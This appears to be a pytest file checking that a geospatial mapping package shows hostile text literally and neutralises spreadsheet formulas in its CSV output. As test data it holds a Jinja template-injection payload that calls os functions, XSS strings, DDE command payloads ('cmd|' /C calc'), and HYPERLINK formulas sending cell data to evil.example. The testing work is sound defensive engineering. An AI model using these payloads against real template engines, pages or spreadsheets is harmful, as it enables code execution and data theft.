"""Hostile text in outputs (issue 13, items 1, 3, 4).

1. No text from data reaches a Jinja template's source: every text field of every
   map builder holds template tags, a payload that would create a folder if it
   were evaluated, and HTML; the saved page (decoded) and Chromium's DOM show it
   literally, nothing runs, no dialog fires, nothing is created.
3. results.csv (and every table written by ``write_csv_excel``) neutralises Excel
   formulas in text cells, keeps numbers numeric, and quotes cells holding a CR.
4. Outputs are written as a set, atomically, and an output that cannot be written
   is refused with ``OutputError`` / exit 3 naming it — with the earlier files and
   the inputs unchanged (sha256) and no stray files.
"""

from __future__ import annotations

import csv
import errno
import hashlib
import html
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import folium
import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from shapely import LineString, Point, box

import jixi_geo as jg
from jixi_geo import _io, _offline, maps
from jixi_geo.cli import main
from jixi_geo.errors import InputError, JixiGeoError, OutputError
from jixi_geo.report import verify_report, write_report
from jixi_geo.sites import write_csv_excel

FLAG_ENV = "JIXI_HOSTILE_FLAG"
#: Evaluated by Jinja, this creates the folder named by $JIXI_HOSTILE_FLAG (no quotes needed,
#: so HTML escaping does not stop it: the hole the issue describes).
EXEC = "{{ lipsum.__globals__.os.mkdir(lipsum.__globals__.os.environ." + FLAG_ENV + ") }}"
PAYLOADS = {
    "expr": "{{7*7}}",
    "raw": "{% raw %}",
    "comment": "{#",
    "statement": "{% for i in range(3) %}x{% endfor %}",
    "exec": EXEC,
    "script": "<script>alert('s')</script>",
    "img": "<img src=x onerror=alert(2)>",
}
COMBO = " ".join(PAYLOADS.values())




@pytest.fixture
def flag(tmp_path, monkeypatch) -> Path:
    """Where the exec payload would create a folder; it must never exist."""
    path = tmp_path / "PWNED"
    monkeypatch.setenv(FLAG_ENV, str(path))
    return path


def _sha(path: Path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def _tree(folder: Path) -> dict[str, str]:
    """Every file below ``folder`` (hidden ones included) → sha256."""
    return {str(p.relative_to(folder)): _sha(p) for p in sorted(folder.rglob("*")) if p.is_file()}


def _page_text(page: str) -> str:
    """The saved page with JSON \\u escapes and HTML character references decoded."""
    return html.unescape(re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), page))


# ---------------------------------------------------------------- map builders, all text hostile

def _mark(field: str, payload: str) -> str:
    return f"[{field}]{payload}"


def _pattern_case(p: str, tmp_path: Path):
    """pattern_map with a hostile pattern layer and hostile user reference layers."""
    shown = ["name_zh", "name_en", "category", "level", "precision", "method", "source"]
    rows = []
    for i, element in enumerate(["lake", "barrier", "corridor", "protected_area"]):
        row = {f: _mark(f"pattern.{f}.{element}", p) for f in shown}
        rows.append(dict(row, id=_mark("pattern.id", p), element=element, official_area_ha=np.nan,
                         geometry=box(131.2 + i * 0.3, 45.2, 131.4 + i * 0.3, 45.4)))
    pattern = gpd.GeoDataFrame(rows, geometry="geometry", crs="EPSG:4490")
    ref = ["name_zh", "name_en", "category", "precision", "source"]

    def layer(key, geom):
        return gpd.GeoDataFrame([dict({f: _mark(f"{key}.{f}", p) for f in ref}, geometry=geom)],
                                geometry="geometry", crs="EPSG:4490")

    layers = {"pattern": pattern, "counties": layer("counties", box(131.0, 45.0, 133.0, 46.0)),
              "boundary": layer("boundary", box(130.9, 44.9, 133.1, 46.1)),
              "rivers": layer("rivers", LineString([(131.0, 45.7), (132.5, 45.8)]))}
    expected = [_mark(f"pattern.{f}.{e}", p) for f in shown for e in ("lake", "barrier", "corridor",
                                                                       "protected_area")]
    expected += [_mark(f"{k}.{f}", p) for k in ("counties", "boundary", "rivers") for f in ref]
    return maps.pattern_map(layers=layers, simplify_m=0), expected


def _park_case(p: str, tmp_path: Path):
    """park_map with hostile park keys, names and land-use codes (a user's park table)."""
    key = _mark("park", p)
    parks = gpd.GeoDataFrame({"park": [key], "name_zh": [_mark("parks.name_zh", p)],
                              "name_en": [_mark("parks.name_en", p)], "planned_area_ha": [-3.5]},
                             geometry=[box(131.10, 45.30, 131.13, 45.315)], crs="EPSG:4490")
    zones = gpd.GeoDataFrame({
        "park": [key, key], "name_zh": [_mark("zones.name_zh", p), "绿地"],
        "name_en": [_mark("zones.name_en", p), "green"],
        "landuse_code": [_mark("zones.landuse_code", p), "G"], "planned_area_ha": [600.0, 113.0]},
        geometry=[box(131.10, 45.30, 131.12, 45.315), box(131.12, 45.30, 131.13, 45.315)], crs="EPSG:4490")
    expected = [key, _mark("parks.name_zh", p), _mark("parks.name_en", p), _mark("zones.name_zh", p),
                _mark("zones.name_en", p), _mark("zones.landuse_code", p)]
    return maps.park_map(parks=parks, zones=zones, simplify_m=0), expected


_RESULT_TEXT = ["site_id", "site_name", "control_level", "zones_hit", "nearest_zone", "activity", "rule", "basis",
                "reasons"]


def _compliance_case(p: str, tmp_path: Path):
    """compliance_map with hostile results (every text column) and hostile zones (level included)."""
    sites = gpd.GeoDataFrame([dict({f: _mark(f"{f}.{v}", p) for f in _RESULT_TEXT}, verdict=v,
                                   overlap_ha=-1.5, overlap_pct=10.0, distance_m=0.0,
                                   geometry=Point(131.2 + i * 0.2, 45.5))
                              for i, v in enumerate(maps.VERDICTS)], geometry="geometry", crs="EPSG:4490")
    zones = gpd.GeoDataFrame({
        "control_level": ["nature_reserve", _mark("zones.control_level", p)],
        "name_zh": [_mark("zones.name_zh", p), "z2"], "name_en": [_mark("zones.name_en", p), "z2"],
        "precision": [_mark("zones.precision", p), "x"], "method": [_mark("zones.method", p), "x"]},
        geometry=[box(131.1, 45.4, 131.5, 45.6), box(132.0, 45.0, 132.5, 45.3)], crs="EPSG:4490")
    expected = [_mark(f"{f}.{v}", p) for f in _RESULT_TEXT for v in maps.VERDICTS]
    expected += [_mark(f"zones.{f}", p) for f in ("control_level", "name_zh", "name_en", "precision", "method")]
    return maps.compliance_map(sites, zones=zones, simplify_m=0), expected


def _zones_file_case(p: str, tmp_path: Path):
    """A --zones file and a sites CSV, through validate_zones and check_sites, onto the map."""
    zpath = tmp_path / "zones.geojson"
    gpd.GeoDataFrame({"id": [_mark("zone.id", p)], "name_zh": [_mark("zone.name_zh", p)],
                      "name_en": [_mark("zone.name_en", p)], "control_level": ["nature_reserve"],
                      "precision": [_mark("zone.precision", p)], "method": [_mark("zone.method", p)]},
                     geometry=[box(131.1, 45.4, 131.5, 45.6)], crs="EPSG:4490").to_file(zpath)
    spath = tmp_path / "sites.csv"
    pd.DataFrame({"site_id": ["S1", "S2"], "name": [_mark("site.name", p), _mark("site.name2", p)],
                  "lon": [131.3, 131.52], "lat": [45.5, 45.5]}).to_csv(spath, index=False)
    zones = jg.validate_zones(zpath)
    res = jg.check_sites(spath, zones=zones, activity="wind_farm")
    expected = [_mark("zone.name_zh", p), _mark("zone.name_en", p), _mark("zone.precision", p),
                _mark("zone.method", p), _mark("site.name", p), _mark("site.name2", p)]
    return maps.compliance_map(res, zones=zones, simplify_m=0), expected


def _controls_case(p: str, tmp_path: Path):
    """compliance_map with hostile control layers (names, ids, class codes, source file) and per-line columns."""
    from jixi_geo.controls import ControlLayer, Controls

    def layer(role, x0, **extra):
        gdf = gpd.GeoDataFrame({"control_id": [_mark(f"{role}.control_id", p)], "name": [_mark(f"{role}.name", p)],
                                "level": [""], **extra}, geometry=[box(x0, 45.4, x0 + 0.2, 45.6)], crs="EPSG:4490")
        return ControlLayer(role=role, gdf=gdf, source=f"/data/{_mark(role + '.source', p).replace('/', '_')}.gpkg",
                            synthetic=True)

    controls = Controls({"permanent_farmland": layer("permanent_farmland", 131.1),
                         "landcover": layer("landcover", 131.5, class_code=[_mark("landcover.class_code", p)],
                                            class_known=[False])})
    sites = gpd.GeoDataFrame({"site_id": ["C1"], "site_name": [_mark("ctl.site_name", p)], "verdict": ["prohibited"],
                              "eco_verdict": ["clear"], "farmland_verdict": ["prohibited"],
                              "farmland_relation": ["inside"], "farmland_ha": [1.5], "controls_synthetic": [True]},
                             geometry=[Point(131.9, 45.5)], crs="EPSG:4490")
    expected = [_mark(f"{r}.{f}", p) for r in ("permanent_farmland", "landcover") for f in ("control_id", "name")]
    expected += [_mark("landcover.class_code", p), _mark("ctl.site_name", p)]
    expected += [_mark(f"{r}.source", p).replace("/", "_") for r in ("permanent_farmland", "landcover")]
    return maps.compliance_map(sites, zones=_tiny_zones(), controls=controls, simplify_m=0), expected


BUILDERS = {"pattern": _pattern_case, "park": _park_case, "compliance": _compliance_case,
            "zones_file": _zones_file_case, "controls": _controls_case}


@pytest.mark.parametrize("payload", list(PAYLOADS))
@pytest.mark.parametrize("builder", list(BUILDERS))
def test_map_text_is_shown_literally_never_run(builder, payload, tmp_path, flag):
    p = PAYLOADS[payload]
    m, expected = BUILDERS[builder](p, tmp_path)
    before = _tree(tmp_path)
    out = maps.save_map(m, tmp_path / "map.html")
    page = out.read_text(encoding="utf-8")
    text = _page_text(page)
    missing = [e for e in expected if e not in text]
    assert not missing, f"not shown literally: {missing[:3]}"
    if payload == "expr":
        assert "]49" not in text  # {{7*7}} was not evaluated anywhere
    assert "<script>alert('s')" not in page and "<img src=x" not in page  # markup stays text
    assert not flag.exists()
    assert _tree(tmp_path) == {**before, "map.html": _sha(out)}  # inputs unchanged, nothing else written


def test_saved_page_holds_no_template_tag_from_data(tmp_path, flag):
    """The data scripts carry no {{ {% {# at all: nothing for any later template pass to run."""
    m, _ = _compliance_case(COMBO, tmp_path)
    page = _offline.render_html(m)
    data = re.findall(r"L\.geoJson\((.*?), \{\s*pointToLayer", page, flags=re.S)
    # one per drawn group: 6 verdicts, 2 control levels, the city boundary, the screening buffers
    assert len(data) == len(maps.VERDICTS) + 2 + 2
    hostile = 0
    for blob in data:
        assert not re.search(r"\{[{%#]", blob)
        props = [f["properties"] for f in json.loads(blob)["features"]]
        hostile += bool(props) and all("{{7*7}}" in html.unescape(q.get("_popup", "")) for q in props)
    assert hostile == len(maps.VERDICTS) + 2  # every site and zone group carries the payload
    # the new text fields: site labels and the search list (Controls config) hold it, encoded
    config = re.search(r"L\.jixi\.setup\([^,]+, (.*?)\);\s*\n", page, flags=re.S).group(1)
    assert not re.search(r"\{[{%#]", config)
    search = json.loads(config)["search"]
    assert len(search) == len(maps.VERDICTS)
    assert all("{{7*7}}" in item["name"] and "{{7*7}}" in item["id"] for item in search)
    assert not flag.exists()


def test_encoder_round_trips_every_character_and_leaves_no_tag():
    rng = np.random.default_rng(13)
    alphabet = list("{}%#<>&'\"\\/\u2028\u2029 \t\r\nab鸡西=+-@") + ["{{", "{%", "{#", "}}", "%}", "#}"]
    for _ in range(300):
        s = "".join(rng.choice(alphabet, size=int(rng.integers(0, 30))))
        obj = {s: [s, {"k": s}, 1.5, None, True]}
        out = maps._js_json(obj)
        assert json.loads(out) == obj
        assert not re.search(r"\{[{%#]|</", out)


@pytest.mark.parametrize("make", [
    lambda m: folium.Marker([45.3, 131.0], tooltip=EXEC).add_to(m),
    lambda m: folium.Marker([45.3, 131.0], popup=folium.Popup("{{7*7}}")).add_to(m),
    lambda m: folium.GeoJson({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"n": "{% raw %}"}, "geometry": {"type": "Point",
                                                                       "coordinates": [131.0, 45.3]}}]}
    ).add_to(m),
    lambda m: folium.FeatureGroup(name="{# layer").add_to(m),
], ids=["tooltip", "popup", "geojson-property", "layer-name"])
def test_hand_made_folium_map_with_template_text_is_refused(make, tmp_path, flag):
    m = folium.Map(tiles=None)
    make(m)
    with pytest.raises(JixiGeoError, match=r"template tag .*refused") as info:
        maps.save_map(m, tmp_path / "x.html")
    assert "模板标记" in str(info.value)
    assert os.listdir(tmp_path) == [] and not flag.exists()


def test_hostile_tianditu_key_is_url_encoded_not_run(tmp_path, flag):
    sites = gpd.GeoDataFrame({"site_id": ["S"], "verdict": ["clear"]}, geometry=[Point(131.0, 45.3)], crs=4490)
    m = maps.compliance_map(sites, zones=_tiny_zones(), basemap="tianditu", tianditu_key=EXEC)
    page = maps.save_map(m, tmp_path / "t.html").read_text(encoding="utf-8")
    assert "tk=%7B%7B%20lipsum.__globals__.os.mkdir" in page
    assert not flag.exists() and os.listdir(tmp_path) == ["t.html"]


def test_build_layers_into_a_file_is_refused(a_file):
    from jixi_geo.layerbuild import build_layers

    with pytest.raises(OutputError, match=f"{re.escape(str(a_file))} is an existing file, not a folder"):
        build_layers(out_dir=a_file)
    assert a_file.read_text(encoding="utf-8") == "keep me"


def test_single_braces_are_not_mistaken_for_tags(tmp_path):
    m = folium.Map(tiles=None)
    folium.Marker([45.3, 131.0], tooltip="{a} 50% #1 }}").add_to(m)
    page = maps.save_map(m, tmp_path / "ok.html").read_text(encoding="utf-8")
    assert "{a} 50% #1 }}" in page


# --------------------------------------------------------------------- the same in Chromium

def _dom_texts(page) -> list[str]:
    """Open every feature's tooltip and popup through Leaflet; their rendered text."""
    return page.evaluate("""() => {
        const m = window[document.querySelector('.folium-map').id];
        const out = [];
        m.eachLayer(l => {
            if (!l.feature) { return; }
            const at = l.getLatLng ? l.getLatLng() : l.getBounds().getCenter();
            if (l.getTooltip()) {
                l.openTooltip(at);
                out.push(l.getTooltip().getElement().innerText);
                l.closeTooltip();
            }
            if (l.getPopup()) {
                l.openPopup(at);
                out.push(l.getPopup().getElement().querySelector('.leaflet-popup-content').innerText);
                l.closePopup();
            }
        });
        out.push(document.querySelector('.leaflet-control-layers').innerText);
        out.push(document.querySelector('.jx-legend').innerText);
        // labels (shown past their zoom) and the site search list (every site: the marks share "]")
        m.setZoom(16, {animate: false});
        document.querySelectorAll('.jx-label').forEach(e => out.push('label:' + e.innerText));
        const input = document.querySelector('.jx-search-input');
        if (input) {
            input.value = ']';
            input.dispatchEvent(new Event('input'));
            document.querySelectorAll('.jx-search-item').forEach(e => out.push('search:' + e.innerText));
        }
        return out;
    }""")


@pytest.mark.browser
@pytest.mark.parametrize("builder", ["pattern", "park", "compliance", "zones_file", "controls"])
def test_browser_shows_hostile_text_literally(builder, tmp_path, flag, open_map, tooltip_and_popup):
    m, expected = BUILDERS[builder](COMBO, tmp_path)
    path = maps.save_map(m, tmp_path / f"{builder}.html")
    page, watch = open_map(path)
    # a real hover and click on one feature, as a user would
    hover = {"pattern": "path.jx-g-lake", "park": "path[class*='jx-g-zones-']",
             "compliance": "path.jx-g-verdict-prohibited", "zones_file": "path[class*='jx-g-verdict-']",
             "controls": "path.jx-g-control-permanent_farmland"}[builder]
    page.add_style_tag(content=".leaflet-control-container { display: none; }")  # long hostile labels
    tooltip, popup = tooltip_and_popup(page, page.locator(hover).first)
    assert "{{7*7}}" in tooltip + popup and "<script>alert('s')</script>" in tooltip + popup
    page.locator(".leaflet-popup-close-button").click()
    page.add_style_tag(content=".leaflet-control-container { display: block; }")
    dom = _dom_texts(page)
    texts = "\n".join(dom)
    missing = [e for e in expected if e not in texts]
    assert not missing, f"not in the DOM literally: {missing[:3]}"
    if builder in ("compliance", "zones_file"):
        # the labels and the search list show the sites' names (and ids) as text
        labels = "\n".join(t for t in dom if t.startswith("label:"))
        search = "\n".join(t for t in dom if t.startswith("search:"))
        names = [e for e in expected if e.startswith(("[site_name.", "[site.name"))]
        assert names and all(n in labels and n in search for n in names)
        if builder == "compliance":
            assert all(_mark(f"site_id.{v}", COMBO) in search for v in maps.VERDICTS)
            assert _mark("zones.name_zh", COMBO) in labels  # a reserve's label
    assert "]49" not in texts
    assert page.evaluate("document.querySelectorAll('.leaflet-container script, img[src=\"x\"]').length") == 0
    page.wait_for_timeout(300)
    assert not watch.dialogs and not flag.exists()


# ------------------------------------------------------------------------ Excel formulas (item 3)

FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1",
            '=HYPERLINK("http://evil.example/?q="&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _csv_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


@pytest.fixture(scope="module")
def formula_report(tmp_path_factory):
    """check_sites + write_report over sites whose name and an attribute hold each formula."""
    out = tmp_path_factory.mktemp("formula")
    sites = gpd.GeoDataFrame({"site_id": [f"F{i}" for i in range(len(FORMULAS))], "name": FORMULAS,
                              "owner": FORMULAS},
                             geometry=[Point(131.0 + i * 0.01, 45.3) for i in range(len(FORMULAS))],
                             crs="EPSG:4490")
    res = jg.check_sites(sites)
    return res, write_report(res, out / "r")


@pytest.mark.parametrize("i", range(len(FORMULAS)), ids=[repr(f)[1:12] for f in FORMULAS])
def test_results_csv_cell_is_text_not_formula(formula_report, i):
    res, paths = formula_report
    rows = _csv_rows(paths["csv"])
    head = rows[0]
    assert len(rows) == len(FORMULAS) + 1  # a CR in a cell did not split its row
    row = rows[1 + i]
    assert row[head.index("site_id")] == f"F{i}"
    assert row[head.index("name")] == "'" + FORMULAS[i]
    assert row[head.index("owner")] == "'" + FORMULAS[i]
    gj = json.loads(paths["geojson"].read_text(encoding="utf-8"))["features"][i]["properties"]
    assert gj["name"] == FORMULAS[i] and gj["owner"] == FORMULAS[i]  # raw in GeoJSON


def test_numbers_stay_numbers_and_numeric_text_is_untouched(tmp_path):
    df = pd.DataFrame({"area_ha": [-12.5, 3.0], "count": [-1, 2], "ok": [True, False],
                       "text_num": ["-12.40", "+3e2"], "when": pd.to_datetime(["2026-01-01", "2026-01-02"])})
    path = write_csv_excel(df, tmp_path / "n.csv")
    raw = path.read_bytes().decode("utf-8-sig")
    assert raw == ("area_ha,count,ok,text_num,when\r\n-12.5,-1,True,-12.40,2026-01-01\r\n"
                   "3.0,2,False,+3e2,2026-01-02\r\n")
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back["area_ha"].tolist() == [-12.5, 3.0] and back["area_ha"].dtype == float


def test_formula_column_names_are_neutralised(tmp_path):
    path = write_csv_excel(pd.DataFrame({"=cmd|' /C calc'!A0": ["x"], "-area": [-1.0]}), tmp_path / "h.csv")
    assert _csv_rows(path)[0] == ["'=cmd|' /C calc'!A0", "'-area"]
    assert _csv_rows(path)[1] == ["x", "-1.0"]


@pytest.mark.parametrize("value", ["a\rb", "a\nb", "a\r\nb", "\r", 'say "hi"\r'])
def test_cell_with_line_break_is_quoted_and_reads_back_as_one_row(value, tmp_path):
    df = pd.DataFrame({"id": ["x1", value, "x3"], "v": [1.5, -2.5, 3.5]})
    path = write_csv_excel(df, tmp_path / "cr.csv")
    rows = _csv_rows(path)
    expected = value if value[:1] not in ("\r",) else "'" + value
    assert rows == [["id", "v"], ["x1", "1.5"], [expected, "-2.5"], ["x3", "3.5"]]
    back = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)
    assert len(back) == 3 and back["v"].tolist() == [1.5, -2.5, 3.5]


def test_categorical_and_missing_cells(tmp_path):
    df = pd.DataFrame({"c": pd.Categorical(["=x", "y", None]), "o": ["@a", None, np.nan]})
    rows = _csv_rows(write_csv_excel(df, tmp_path / "c.csv"))
    assert rows == [["c", "o"], ["'=x", "'@a"], ["y", ""], ["", ""]]


def test_landuse_findings_are_neutralised(tmp_path):
    findings = jg.landuse.validate(jg.landuse.load_table("chemical", "current"))
    findings.loc[0, "message"] = "=HYPERLINK(\"http://evil.example\",\"x\")"
    findings.loc[0, "code"] = "@E2"
    findings.loc[1, "expected"] = "-12.40"
    rows = _csv_rows(write_csv_excel(findings, tmp_path / "landuse_findings.csv"))
    head = rows[0]
    assert rows[1][head.index("message")] == "'=HYPERLINK(\"http://evil.example\",\"x\")"
    assert rows[1][head.index("code")] == "'@E2"
    assert rows[2][head.index("expected")] == "-12.40"  # a negative figure stays a number


def test_geoparquet_and_geopackage_keep_raw_values(tmp_path):
    src = tmp_path / "s.csv"
    pd.DataFrame({"site_id": ["=1+1", "@x"], "lon": [131.0, 131.1], "lat": [45.3, 45.3]}).to_csv(src, index=False)
    out = jg.check_file(src, tmp_path / "r.parquet", progress=False)
    assert jg.read_results(out)["site_id"].tolist() == ["=1+1", "@x"]
    res = jg.check_sites(src)
    jixi = tmp_path / "r.gpkg"
    jg.batch.plain_results(res).to_file(jixi)
    assert gpd.read_file(jixi)["site_id"].tolist() == ["=1+1", "@x"]


def test_cli_results_csv_neutralised_and_input_unchanged(tmp_path):
    src = tmp_path / "sites.csv"
    src.write_text("site_id,name,lon,lat\nA,\"=HYPERLINK(\"\"http://e\"\",\"\"x\"\")\",131.0,45.3\n"
                   "B,\"a\rb\",131.1,45.3\n", encoding="utf-8")
    before = _sha(src)
    r = CliRunner().invoke(main, ["check", str(src), "--out", str(tmp_path / "out")])
    assert r.exit_code in (0, 1), r.output
    rows = _csv_rows(tmp_path / "out" / "results.csv")
    head = rows[0]
    assert [row[head.index("name")] for row in rows[1:]] == ['\'=HYPERLINK("http://e","x")', "a\rb"]
    assert _sha(src) == before


# --------------------------------------------------------- outputs that cannot be written (item 4)

@pytest.fixture
def a_file(tmp_path) -> Path:
    f = tmp_path / "taken.txt"
    f.write_text("keep me", encoding="utf-8")
    return f


@pytest.fixture
def results():
    sites = gpd.GeoDataFrame({"site_id": ["A", "B"]}, geometry=[Point(131.0, 45.3), Point(132.0, 45.5)],
                             crs="EPSG:4490")
    return jg.check_sites(sites)


def _writers(results, sites_csv: Path):
    """Every writer of the package, as (name, call(path)) — path a file, or a folder for folder writers."""
    import matplotlib

    matplotlib.use("Agg")
    from jixi_geo import plot, raster

    def fig(path):
        import matplotlib.pyplot as plt

        f, ax = plt.subplots()
        ax.plot([0, 1], [0, 1])
        try:
            return plot.save_figure(f, path)
        finally:
            plt.close(f)

    zones = _tiny_zones()
    return {
        "save_map": lambda p: maps.save_map(maps.compliance_map(results, zones=zones), p / "m.html"),
        "save_figure": lambda p: fig(p / "f.png"),
        "write_csv_excel": lambda p: write_csv_excel(results, p / "r.csv"),
        "write_report": lambda p: write_report(results, p, zones=zones),
        "check_file": lambda p: jg.check_file(sites_csv, p, progress=False),
        "rasterize": lambda p: raster.rasterize(zones, path=p / "z.tif", resolution_m=100,
                                                value_col="control_level"),
        "landuse_findings": lambda p: write_csv_excel(
            jg.landuse.validate(jg.landuse.load_table("chemical", "current")), p / "landuse_findings.csv"),
    }


_SITES_CSV = "site_id,lon,lat\nA,131.0,45.3\n"


WRITERS = ["save_map", "save_figure", "write_csv_excel", "write_report", "check_file", "rasterize",
           "landuse_findings"]


@pytest.fixture
def sites_csv(tmp_path_factory):
    src = tmp_path_factory.mktemp("src") / "sites.csv"
    src.write_text(_SITES_CSV, encoding="utf-8")
    return src


@pytest.mark.parametrize("writer", WRITERS)
def test_writer_into_an_existing_file_is_refused(writer, a_file, results, sites_csv):
    before = _tree(a_file.parent)
    with pytest.raises(OutputError) as info:
        _writers(results, sites_csv)[writer](a_file)
    msg = str(info.value)
    assert msg.startswith(f"无法写入 {a_file}") and f"cannot write to {a_file}" in msg
    assert f"{a_file} is an existing file, not a folder" in msg and "是已存在的文件" in msg
    assert isinstance(info.value, OSError) and isinstance(info.value, JixiGeoError)
    assert _tree(a_file.parent) == before  # nothing written, the file untouched


@pytest.mark.parametrize("writer", WRITERS)
def test_writer_below_a_file_is_refused(writer, a_file, results, sites_csv):
    before = _tree(a_file.parent)
    target = a_file / "sub"
    with pytest.raises(OutputError) as info:
        _writers(results, sites_csv)[writer](target)
    assert f"{a_file} is a file, not a folder, so {target}" in str(info.value)
    assert _tree(a_file.parent) == before


def test_save_map_onto_a_folder_is_refused(tmp_path, results):
    (tmp_path / "m.html").mkdir()
    with pytest.raises(OutputError, match=r"m\.html is a folder, not a file; give a file name"):
        maps.save_map(maps.compliance_map(results, zones=_tiny_zones()), tmp_path / "m.html")
    assert [p.name for p in tmp_path.iterdir()] == ["m.html"]


def _tiny_zones():
    return gpd.GeoDataFrame({"control_level": ["nature_reserve"], "name_zh": ["小区"], "name_en": ["tiny"]},
                            geometry=[box(131.0, 45.0, 131.01, 45.01)], crs="EPSG:4490")


@pytest.fixture
def immutable_dir(tmp_path):
    """A folder even root cannot write into (ext4 immutable attribute); skipped where unsupported.

    chmod 555 would not do: root ignores permission bits.
    """
    d = tmp_path / "ro"
    d.mkdir()
    (d / "old.csv").write_text("old", encoding="utf-8")
    if shutil.which("chattr") is None or subprocess.run(["chattr", "+i", str(d)],
                                                        capture_output=True).returncode != 0:
        pytest.skip("chattr +i is not available here (needs root and ext4/xfs)")
    try:
        if os.access(d, os.W_OK) and _can_create(d):
            pytest.skip("the immutable attribute did not make the folder read-only")
        yield d
    finally:
        subprocess.run(["chattr", "-i", str(d)], check=True)


def _can_create(d: Path) -> bool:
    try:
        (d / ".x").touch()
    except OSError:
        return False
    (d / ".x").unlink()
    return True


@pytest.mark.parametrize("writer", WRITERS)
def test_writer_into_a_read_only_folder_is_refused(writer, immutable_dir, results, sites_csv):
    before = _tree(immutable_dir)
    with pytest.raises(OutputError) as info:
        _writers(results, sites_csv)[writer](immutable_dir)
    assert f"the folder {immutable_dir} is not writable" in str(info.value)
    assert "不可写" in str(info.value)
    assert _tree(immutable_dir) == before


def test_read_only_folder_without_root_powers_is_refused(tmp_path, monkeypatch, results):
    """Portable stand-in for a read-only folder: the OS refuses to create any file (EACCES)."""
    real_open = os.open

    def deny(path, flags, *a, **k):
        if flags & os.O_CREAT and Path(path).parent == tmp_path:
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real_open(path, flags, *a, **k)

    monkeypatch.setattr(os, "open", deny)
    with pytest.raises(OutputError, match=f"the folder {re.escape(str(tmp_path))} is not writable"):
        write_report(results, tmp_path, zones=_tiny_zones())
    assert list(tmp_path.iterdir()) == []


def _cli(args, cwd: Path):
    return subprocess.run([sys.executable, "-m", "jixi_geo.cli", *args], cwd=cwd, capture_output=True,
                          text=True, timeout=300)


@pytest.mark.parametrize("command", ["check", "check-parquet", "run", "build-layers"])
@pytest.mark.parametrize("where", ["existing file", "below a file"])
def test_cli_out_that_cannot_be_written_exits_3(command, where, tmp_path):
    src = tmp_path / "sites.csv"
    src.write_text(_SITES_CSV, encoding="utf-8")
    taken = tmp_path / ("taken.parquet" if command == "check-parquet" else "taken")
    taken.write_text("keep me", encoding="utf-8")
    out = taken if where == "existing file" else taken / "sub"
    args = {"check": ["check", "sites.csv", "--out", str(out)],
            "check-parquet": ["check", "sites.csv", "--out", str(out)],
            "run": ["run", "--no-build", "--out", str(out)],
            "build-layers": ["build-layers", "--out", str(out)]}[command]
    before = _tree(tmp_path)
    r = _cli(args, tmp_path)
    assert r.returncode == 3, r.stderr
    assert "Traceback" not in r.stderr
    first = r.stderr.strip().splitlines()[-1]
    assert first.startswith("error: 无法写入 OUT：") and " / cannot write to OUT: " in first
    reason = (f"{out} is an existing file, not a folder" if where == "existing file"
              else f"{taken} is a file, not a folder, so {out} cannot be created below it")
    assert reason in first
    assert _tree(tmp_path) == before  # input and the file in the way unchanged, nothing created


def test_cli_out_read_only_folder_exits_3(immutable_dir):
    src = immutable_dir.parent / "sites.csv"
    src.write_text(_SITES_CSV, encoding="utf-8")
    r = _cli(["check", "sites.csv", "--out", str(immutable_dir / "results")], immutable_dir.parent)
    assert r.returncode == 3 and "Traceback" not in r.stderr
    assert f"cannot write to OUT: the folder {immutable_dir} is not writable" in r.stderr
    assert sorted(p.name for p in immutable_dir.iterdir()) == ["old.csv"]


# ----------------------------------------------------------- atomicity: fail mid-write (item 4)

def _half_then_fail(path, exc=None):
    Path(path).write_bytes(b"half a file")
    raise exc or OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.parametrize("writer,patch", [
    ("save_map", ("pathlib.Path.write_text", lambda self, *a, **k: _half_then_fail(self))),
    ("save_figure", ("matplotlib.figure.Figure.savefig", lambda self, p, **k: _half_then_fail(p))),
    ("write_csv_excel", ("pandas.DataFrame.to_csv", lambda self, p, **k: _half_then_fail(p))),
    ("landuse_findings", ("pandas.DataFrame.to_csv", lambda self, p, **k: _half_then_fail(p))),
    ("rasterize", ("rasterio.open", lambda p, *a, **k: _half_then_fail(p))),
])
def test_failed_write_keeps_the_old_file(writer, patch, tmp_path, results, monkeypatch, sites_csv):
    out = tmp_path / "out"
    _writers(results, sites_csv)[writer](out)
    old = _tree(out)
    monkeypatch.setattr(*patch)
    with pytest.raises(OutputError, match="is full"):
        _writers(results, sites_csv)[writer](out)
    assert _tree(out) == old, "the earlier file changed or a temporary file was left"


def test_report_set_survives_a_failure_after_two_of_three_files(tmp_path, results, monkeypatch):
    import jixi_geo.report as report

    write_report(results, tmp_path, zones=_tiny_zones())
    old = _tree(tmp_path)
    verify_report(tmp_path)

    def boom(*a, **k):
        raise RuntimeError("killed while writing the HTML")

    changed = results.assign(site_id=["X", "Y"])
    monkeypatch.setattr(report, "report_html", boom)
    with pytest.raises(RuntimeError):
        write_report(changed, tmp_path, zones=_tiny_zones())
    assert _tree(tmp_path) == old  # new CSV and GeoJSON were written, but never moved in
    assert verify_report(tmp_path)["files"].keys() == {"results.csv", "results.geojson", "report.html"}


def test_check_file_failure_mid_part_keeps_finished_parts(tmp_path, monkeypatch):
    src = tmp_path / "s.csv"
    pd.DataFrame({"site_id": [f"S{i}" for i in range(30)], "lon": np.linspace(130.5, 133.5, 30),
                  "lat": 45.3}).to_csv(src, index=False)
    out = tmp_path / "r.parquet"
    import jixi_geo.batch as batch

    real = batch._write_part  # the one function that writes a part file
    calls = {"n": 0}

    def flaky(res, path, *a, **k):
        calls["n"] += 1
        if calls["n"] == 2:
            _half_then_fail(path)
        return real(res, path, *a, **k)

    monkeypatch.setattr(batch, "_write_part", flaky)
    with pytest.raises(OutputError, match="is full"):
        jg.check_file(src, out, chunksize=10, progress=False)
    assert sorted(p.name for p in out.iterdir()) == ["_manifest.json", "part-00000.parquet"]
